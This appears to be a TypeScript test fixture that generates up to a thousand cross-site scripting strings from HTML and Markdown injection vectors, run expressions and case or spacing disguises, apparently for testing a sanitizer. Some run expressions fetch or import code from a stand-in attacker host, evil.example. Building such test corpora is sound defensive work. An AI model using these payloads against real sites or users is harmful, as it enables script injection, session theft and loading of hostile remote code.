/** What has been tried to get a script through a text, with `RUN` for what it would run. */
const VECTORS = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<iframe srcdoc="<script>RUN</script>">',
  '<iframe src="javascript:RUN">',
  '<body onload=RUN>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<video><source onerror=RUN></video>',
  '<math><mtext></mtext><script>RUN</script></math>',
  '<a href="javascript:RUN">x</a>',
  '<object data="javascript:RUN">',
  '<embed src="javascript:RUN">',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<link rel=stylesheet href="javascript:RUN">',
  '<meta http-equiv=refresh content="0;javascript:RUN">',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<style>@import "javascript:RUN"</style>',
  '<br onclick=RUN>',
  '<br/><img src=x onerror=RUN><br>',
  '[x](javascript:RUN)',
  '[x](JaVaScRiPt:RUN)',
  '[x](data:text/html,<script>RUN</script>)',
  '[x](vbscript:RUN)',
  '[x]( javascript:RUN)',
  '[x](\tjavascript:RUN)',
  '[x](https://a.example/"onmouseover=RUN)',
  '[x](https://a.example/<script>RUN</script>)',
  '[<img src=x onerror=RUN>](https://a.example/)',
  '[x](tel:+1"onclick=RUN)',
  '[x](mailto:a@example.com?subject=<script>RUN</script>)',
  '[[x](javascript:RUN)](https://a.example/)',
  '\u0024{RUN}',
  '{{RUN}}',
  '{{constructor.constructor("RUN")()}}',
  '%SECTOCALL%<script>RUN</script>',
  '%OFFICE%"><img src=x onerror=RUN>',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '\u0000<script>RUN</script>',
  '"><script>RUN</script>',
  "'-RUN-'",
  '`-RUN-`',
  '</textarea><script>RUN</script>',
  '</title><script>RUN</script>',
  '--><script>RUN</script><!--',
  ']]><script>RUN</script>',
  '<x onclick=RUN style=position:fixed;inset:0>x</x>',
  '<a ping="javascript:RUN" href=https://a.example/>x</a>',
];

/** What is run, and how it is disguised. */
const RUNS = [
  'alert(1)',
  'window.pwned=1',
  'fetch(`//evil.example/`)',
  'top.pwned=1',
  'import(`//evil.example/`)',
  'eval(name)',
];
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replace(/=/g, ' = '),
  (text) => `before ${text} after`,
];

/** A thousand hostile texts, no two alike. */
export const ATTACK_TEXTS: readonly string[] = [
  ...new Set(
    VECTORS.flatMap((vector) =>
      RUNS.flatMap((run) => DISGUISES.map((disguise) => disguise(vector.replaceAll('RUN', run)))),
    ),
  ),
].slice(0, 1000);
